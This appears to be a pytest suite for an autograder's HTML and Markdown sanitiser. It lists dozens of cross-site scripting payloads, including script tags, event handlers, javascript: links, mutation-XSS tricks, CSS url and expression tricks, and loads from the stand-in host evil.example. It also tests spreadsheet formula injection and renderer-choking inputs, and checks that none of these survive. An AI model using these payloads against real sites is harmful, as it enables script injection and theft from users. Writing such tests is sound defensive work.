"""What of a submission may appear in a page."""

from __future__ import annotations

import base64
import html.parser
import time

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from autograder.grading import pages
from autograder.grading.convert import Outcome
from autograder.grading.export import harmless
from autograder.grading.pages import (
    markdown_html,
    output_html,
    safe_attachments,
    safe_html,
    safe_picture,
    visible_source,
)
from autograder.grading.report import Line, Report

PNG = base64.b64encode(b"\x89PNG\r\n\x1a\n" + bytes(20)).decode()


class Live(html.parser.HTMLParser):
    """Collects everything in a page that would run, load or send."""

    def __init__(self) -> None:
        super().__init__()
        self.found: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag in {
            "script", "iframe", "frame", "object", "embed", "form", "base", "meta", "link", "svg", "input",
            "button", "style", "video", "audio", "template", "noscript", "textarea", "select", "applet",
        }:  # fmt: skip
            self.found.append(tag)
        for name, value in attrs:
            value = "".join((value or "").split()).lower()
            bad = name.startswith("on") or name in {"srcdoc", "formaction", "srcset", "action", "xlink:href"}
            bad |= name == "href" and not value.startswith(("https://", "http://", "mailto:", "#"))
            bad |= name == "src" and not value.startswith("data:image/")
            bad |= name == "style" and ("url" in value or "expression" in value or "position" in value)
            bad |= name in {"id", "name", "data-link", "data-toggle"}
            if bad:
                self.found.append(f"{tag} {name}={value}")


def live(text: str) -> list[str]:
    parser = Live()
    parser.feed(text)
    parser.close()
    return parser.found


ATTACKS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x></svg>",
    "<math><mtext><script>alert(1)</script></mtext></math>",
    '<math href="javascript:alert(1)">x</math>',
    '<math><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    '<a href="javascript:alert(1)">x</a>',
    '<a href="jAvAsCrIpT&colon;alert(1)">x</a>',
    '<a href=" &#14; javascript:alert(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="evil.html">relative</a>',
    '<a href="//evil.example">protocol-relative</a>',
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=evil.swf></object><embed src=evil.swf>",
    "<form action=http://evil.example><input name=x><button>go</button></form>",
    "<base href=http://evil.example/>",
    "<meta http-equiv=refresh content='0;url=http://evil.example'>",
    "<link rel=stylesheet href=http://evil.example/x.css>",
    "<style>@import 'http://evil.example/x.css';</style>",
    '<div style="background:url(http://evil.example/x.png)">x</div>',
    '<div style="width:expression(alert(1))">x</div>',
    '<div style="position:fixed;top:0;left:0;width:100%;height:100%">x</div>',
    '<img src="http://evil.example/pixel.png">',
    '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    '<img srcset="http://evil.example/x.png 1x">',
    "<video src=http://evil.example/x.mp4 autoplay></video>",
    '<input id="test_training_days" value="999">',
    '<div id="submission_id">x</div>',
    '<span data-link="javascript:alert(1)">x</span>',
    "<!--[if IE]><script>alert(1)</script><![endif]-->",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<textarea></textarea><script>alert(1)</script>",
    "<template><script>alert(1)</script></template>",
    "<x onclick=alert(1)>y</x>",
    "\x00<scr\x00ipt>alert(1)</scr\x00ipt>",
    "<<script>alert(1)//<</script>",
    "<details open ontoggle=alert(1)>x</details>",
]


@pytest.mark.parametrize("attack", ATTACKS)
def test_nothing_live_is_left_in_html(attack: str) -> None:
    assert live(safe_html(attack)) == []


@pytest.mark.parametrize(
    "attack",
    [
        *ATTACKS,
        "[x](javascript:alert(1))",
        "[x](<javascript:alert(1)>)",
        "[x][1]\n\n[1]: javascript:alert(1)",
        "![x](http://evil.example/pixel.png)",
        "![x](attachment:evil.svg)",
        "<javascript:alert(1)>",
        "$\\href{javascript:alert(1)}{x}$",
        "$$\\style{background:url(http://evil.example)}{x}$$",
        "$</math><script>alert(1)</script>$",
        "$\\text{<img src=x onerror=alert(1)>}$",
        "\\begin{equation}<script>alert(1)</script>\\end{equation}",
        '[x](http://a "onmouseover=alert(1)")',
        "```<script>alert(1)</script>\n```",
        "# <script>alert(1)</script>",
        "| a |\n|---|\n| <script>alert(1)</script> |",
    ],
)
def test_nothing_live_is_left_in_markdown(attack: str) -> None:
    assert live(markdown_html(attack, {"evil.svg": {"image/svg+xml": "<svg onload=alert(1)>"}})) == []


@settings(max_examples=300, deadline=None)
@given(
    st.lists(
        st.sampled_from(
            [
                *ATTACKS,
                "<b>",
                "</b>",
                "<table>",
                "<math>",
                "</math>",
                "<svg>",
                "--",
                ">",
                "<!--",
                "`",
                "$",
                "\n",
                "](",
            ]
        ),
        max_size=6,
    ).map("".join)
)
def test_no_mixture_is_live(text: str) -> None:
    assert live(safe_html(text)) == []
    assert live(markdown_html(text)) == []


def test_what_people_write_survives() -> None:
    text = "## Why\n\n*η* is **half**: $t = \\frac{O}{N R \\eta}$\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n[book](https://x.org)"
    page = markdown_html(text)
    for part in (
        "<h2>",
        "<em>η</em>",
        "<strong>half</strong>",
        "<math",
        "<mfrac>",
        "<table>",
        "https://x.org",
    ):
        assert part in page


@pytest.mark.parametrize(
    "text",
    ["[" * 60_000, ">" * 20_000, "*a " * 60_000, "<div>" * 40_000, "<b><i>" * 20_000, "$" * 60_000,
     "$\\frac{" * 5000 + "$", "- " * 30_000, "`" * 60_000, "![" * 30_000, "x" * 10**6, "|" * 60_000 + "\n|-",
     "[a](" * 20_000, "<a<" * 40_000, "&" * 100_000],
)  # fmt: skip
def test_text_made_to_choke_a_renderer_is_shown_all_the_same(text: str) -> None:
    started = time.monotonic()
    page = markdown_html(text)
    assert page and live(page) == []
    assert time.monotonic() - started < 10 * pages.SECONDS  # it ends at all


def test_pictures_are_what_they_say() -> None:
    assert safe_picture("image/png", PNG) == PNG
    assert safe_picture("image/png", base64.b64encode(b"<svg onload=alert(1)>").decode()) is None
    assert safe_picture("image/svg+xml", PNG) is None
    assert safe_picture("image/png", {"a": 1}) is None
    kept = safe_attachments({'a"><script>.png': {"image/png": PNG, "text/html": "<script>"}, "b": 3})
    assert list(kept.values()) == [{"image/png": PNG}]
    assert live(markdown_html("![a](attachment:p.png)", {"p.png": {"image/png": PNG}})) == []
    assert f"data:image/png;base64,{PNG}" in markdown_html(
        "![a](attachment:p.png)", {"p.png": {"image/png": PNG}}
    )


@pytest.mark.parametrize("attack", ATTACKS)
def test_outputs_are_escaped(attack: str) -> None:
    outputs = [
        {"output_type": "stream", "name": "stdout", "text": attack},
        {"output_type": "error", "ename": attack, "evalue": attack, "traceback": [attack]},
        {"output_type": "error", "ename": attack, "evalue": attack, "traceback": []},
        {"output_type": "display_data", "data": {"text/html": attack, "text/plain": attack}},
        {"output_type": "display_data", "data": {"text/plain": attack}},
        {"output_type": "display_data", "data": {"image/png": PNG, "text/plain": f'"{attack}'}},
        {"output_type": "display_data", "data": {"image/svg+xml": attack, "application/javascript": attack}},
        {"output_type": "execute_result", "data": {"text/html": attack}},
    ]
    for output in outputs:
        assert live(output_html(output)) == []


def test_hidden_tests_are_cut_out_of_a_test_and_of_nothing_else() -> None:
    hidden = "### BEGIN HIDDEN TESTS\nfrom autograder import grade\ngrade('a', a)\n### END HIDDEN TESTS"
    source = f"check('a', a)\n{hidden}"
    assert visible_source(source) == "check('a', a)"


@pytest.mark.parametrize("text", ["=1+1", "+1", "-1+2", "@x", "\t=1", " =1", "|x", "%x", "\n=cmd"])
def test_no_cell_of_a_table_is_a_formula(text: str) -> None:
    assert str(harmless(text)).startswith("'")
    assert harmless(-2.5) == -2.5


def test_the_report_shows_names_and_notes_as_text() -> None:
    evil = "<script>alert(1)</script>\n\x1b[2J"
    outcome = Outcome(evil, notes=[evil], problem=evil)
    report = Report("ch01", ("a",), 1.0, (Line(evil, (1.0,), 1.0, False, False, 1),), (outcome,))
    assert set(live(report.page())) == {"meta", "style"}  # the page's own
    assert "\x1b" not in report.table()
    assert len([line for line in report.table().splitlines() if "alert" in line]) == 3
